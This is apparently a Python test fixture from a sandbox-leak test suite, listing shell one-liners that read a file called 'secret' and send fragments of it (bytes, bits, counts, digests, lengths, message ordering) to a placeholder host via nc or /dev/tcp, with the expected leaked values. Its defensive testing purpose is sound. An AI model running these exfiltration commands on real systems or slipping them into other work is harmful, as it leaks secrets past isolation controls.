# SPDX-License-Identifier: GPL-3.0-or-later
"""Leaks of less than the whole: a field, a byte, a bit, a count, a yes or no, a length that differs."""

from tests.kernel.guest_run import CONTENT, SECRET
from tests.leaks.row import Leak, exactly, holds, snippet

LEAKS = [
    Leak("field", "cut -d, -f2 secret | tail -n 1 | nc remote 9"),
    Leak("letters", "head -c 21 secret | tail -c 4 | nc remote 9", shows=exactly(SECRET[:4])),
    Leak("letter", "head -c 18 secret | tail -c 1 | nc remote 9", shows=exactly(SECRET[:1])),
    Leak("first-byte", "head -c 1 secret | nc remote 9", shows=exactly(b"n")),
    Leak("byte-number", "od -An -tu1 -j17 -N1 secret | nc remote 9", shows=exactly(b"83"), passes=b"[ ]*"),
    # Bit 1 of the first byte: set in "n", not in the "x" of the scrubbed copy.
    Leak("bit", snippet("send(b'%d' % (read()[0] >> 1 & 1))"), shows=exactly(b"1")),
    Leak("bit-by-awk", "awk 'NR == 1 { print(substr($0, 1, 1) < \"p\") }' secret | nc remote 9", shows=exactly(b"1")),
    Leak("yes-or-no", "awk '/Sphinx/ { found = 1 } END { print found + 0 }' secret | nc remote 9", shows=exactly(b"1")),
    Leak("matches", "grep -c Sphinx secret | nc remote 9", shows=exactly(b"2")),
    Leak("position", "grep -bo Quartz secret | nc remote 9", shows=holds(b"25:Quartz")),
    Leak("digits", "tr -cd 0-9 < secret | nc remote 9", shows=holds(b"77017702")),
    Leak("fields", "awk -F, '{ n += NF } END { print n }' secret | nc remote 9", shows=exactly(b"6")),
    Leak("longest-field", "awk -F, '{ if (length($1) > m) m = length($1) } END { print m }' secret | nc remote 9", shows=exactly(b"4")),
    Leak("maximum", "sort -t, -k1 secret | head -n 1 | cut -c 1-4 | nc remote 9", shows=exactly(b"anna")),
    Leak("choice-of-text", "x=$(< secret); case $x in *Sphinx*) echo early;; *) echo later;; esac > /dev/tcp/remote/9",
         shows=exactly(b"early")),
    Leak("comparison", "x=$(cut -c1-4 secret | sed -n 2p); [[ $x == anna ]] && echo same || echo other; "
         "[[ $x == anna ]] && echo same > /dev/tcp/remote/9", shows=exactly(b"same")),
    Leak("digest-of-letter", "head -c 18 secret | tail -c 1 | sha256sum | cut -c 1-2 | nc remote 9", shows=exactly(b"8d")),
    Leak("average", "awk -F, 'NR > 1 { n++; s += substr($2, 7, 2) } END { print s / n }' secret | nc remote 9", shows=exactly(b"77")),
    Leak("difference", "cmp secret /run/plain && echo equal; cmp -l secret <(tr a-z b-za < secret) | head -n 1 | nc remote 9",
         shows=holds(b"1 156")),
    Leak("suffix", "tail -c 3 secret | nc remote 9", shows=exactly(b"02")),
    Leak("histogram", "fold -w 1 secret | sort | uniq -c | sort -rn | head -n 3 | nc remote 9", shows=holds(b" a")),
    Leak("yes-or-silence", "x=$(< secret); [[ $x != *Sphinx* ]] || echo yes > /dev/tcp/remote/9", shows=exactly(b"yes")),
    Leak("parity", "od -An -tu1 -j17 -N3 secret | awk '{ print ($1 + $2 + $3) % 2 }' | nc remote 9",
         shows=exactly(b"%d" % (sum(CONTENT[17:20]) & 1))),
    Leak("sum", "od -An -v -tu1 secret | awk '{ for (i = 1; i <= NF; i++) s += $i } END { print s }' | nc remote 9",
         shows=exactly(b"%d" % sum(CONTENT))),
    Leak("distinct-bytes", "LC_ALL=C perl -0777 -ne '$n{$_}++ for split //; print scalar keys %n' secret | nc remote 9",
         shows=exactly(b"%d" % len(set(CONTENT)))),
    Leak("greatest-byte", "fold -w 1 secret | LC_ALL=C sort | tail -n 1 | nc remote 9", shows=exactly(b"z")),
    Leak("length-of-message", "awk '{ n += gsub(/7/, \"\") } END { while (n-- > 0) printf \".\" }' secret | nc remote 9",
         shows=exactly(b"....")),
    Leak("number-of-messages", "for ((i = $(grep -c Sphinx secret); i > 0; i--)); do echo . | nc remote 9; done", shows=exactly(b".\n.")),
    Leak("commas", "tr -cd , < secret | wc -c | nc remote 9", shows=exactly(b"3")),
    Leak("packed-length", "gzip -nc secret | wc -c | nc remote 9", shows=lambda data: int(data) > 40),
    Leak("filtered-length", "tr -d a-z < secret | wc -c | nc remote 9",
         shows=exactly(b"%d" % sum(not 97 <= byte <= 122 for byte in CONTENT))),
    Leak("order-of-messages", "x=$(< secret); [[ ${x:17:1} == S ]] && order='a b' || order='b a'; "
         "for part in $order; do echo -n $part > /dev/tcp/remote/9; done", shows=exactly(b"ab")),
]
